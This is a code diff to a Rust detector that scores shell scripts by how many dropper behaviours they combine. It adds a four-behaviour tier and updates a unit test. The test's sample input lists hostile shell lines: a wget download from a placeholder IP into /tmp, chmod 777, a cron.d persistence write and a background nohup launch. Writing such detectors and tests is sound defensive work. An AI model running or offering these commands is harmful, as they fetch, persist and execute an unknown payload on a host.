@@ -17,6 +17,7 @@ pub(crate) fn look(bytes: &[u8]) -> Option<Signal> {
     match kinds.count_ones() {
         7.. if brings => Some(table::DROPPER_SEVEN),
         5.. if brings => Some(table::DROPPER_FIVE),
+        4 if brings => Some(table::DROPPER_FOUR),
         _ => None,
     }
 }
@@ -87,7 +88,7 @@ mod tests {
     }
 
     #[test]
-    fn a_script_of_many_kinds_decides_and_one_of_five_is_near() {
+    fn more_kinds_weigh_more() {
         let acts = [
             "chmod 777 /tmp/.x",
             "\nwget http://192.0.2.1/x -O /tmp/x",
@@ -97,8 +98,11 @@ mod tests {
             "\necho x > /etc/cron.d/x",
             "\nnohup /tmp/x &",
         ];
-        let five = format!("#!/bin/sh\n{}", acts[..4].concat());
-        assert_eq!(look(five.as_bytes()).unwrap().id, "dropper-five-kinds");
+        let first =
+            |count| format!("#!/bin/sh\n{}", acts.iter().take(count).copied().collect::<String>());
+        assert!(look(first(2).as_bytes()).is_none());
+        assert_eq!(look(first(3).as_bytes()).unwrap().id, "dropper-four-kinds");
+        assert_eq!(look(first(4).as_bytes()).unwrap().id, "dropper-five-kinds");
         let all = format!("#!/bin/sh\n{}", acts.concat());
         assert_eq!(look(all.as_bytes()).unwrap().id, "dropper-seven-kinds");
     }
